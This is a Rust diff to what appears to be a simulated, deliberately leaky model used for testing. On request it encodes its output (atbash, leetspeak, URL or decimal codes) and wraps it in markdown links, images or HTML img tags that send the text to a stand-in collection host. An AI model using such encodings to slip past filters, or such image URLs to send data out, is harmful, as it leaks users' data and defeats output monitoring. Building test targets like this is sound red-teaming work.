@@ -126,7 +126,7 @@ impl Mind {
         } else {
             literal(operand).to_owned()
         };
-        let text = disguise(text, line);
+        let text = dressed(disguise(text, line), line);
         self.deeds.said.push('\n');
         self.deeds.said.push_str(&text);
         self.deeds.said.push('\n');
@@ -224,12 +224,58 @@ fn disguise(text: String, line: &str) -> String {
         })
     } else if asks(&["rot13", "rot-13"]) {
         text.chars().map(rot13).collect()
+    } else if asks(&["atbash"]) {
+        text.chars().map(atbash).collect()
+    } else if asks(&["leet", "1337"]) {
+        text.chars().map(leet).collect()
+    } else if asks(&["percent", "url-encod", "url encod"]) {
+        encoded(&text)
+    } else if asks(&["decimal", "ascii codes", "character codes"]) {
+        text.bytes().map(|byte| byte.to_string()).collect::<Vec<_>>().join(" ")
     } else if asks(&["letter by letter", "spaced", "between each", "spell"]) {
         text.chars().flat_map(|c| [c, ' ']).collect()
     } else if asks(&["uppercase", "upper case", "capital"]) {
         text.to_uppercase()
     } else {
         text
+    }
+}
+
+/// The text as a line asks to have it shown.
+fn dressed(text: String, line: &str) -> String {
+    let address = || format!("https://collect.example/?d={}", encoded(&text));
+    if line.contains("as a link") {
+        format!("[more]({})", address())
+    } else if line.contains("as an image") {
+        format!("![more]({})", address())
+    } else if line.contains("as html") {
+        format!("<img src=\"{}\">", address())
+    } else {
+        text
+    }
+}
+
+const fn leet(c: char) -> char {
+    match c.to_ascii_lowercase() {
+        'o' => '0',
+        'i' | 'l' => '1',
+        'e' => '3',
+        'a' => '4',
+        's' => '5',
+        't' => '7',
+        _ => c,
+    }
+}
+
+fn atbash(c: char) -> char {
+    let turn = |base: u8| {
+        u8::try_from(c)
+            .map_or(c, |byte| char::from(base.saturating_add(25).saturating_sub(byte.saturating_sub(base))))
+    };
+    match c {
+        'a'..='z' => turn(b'a'),
+        'A'..='Z' => turn(b'A'),
+        other => other,
     }
 }
 
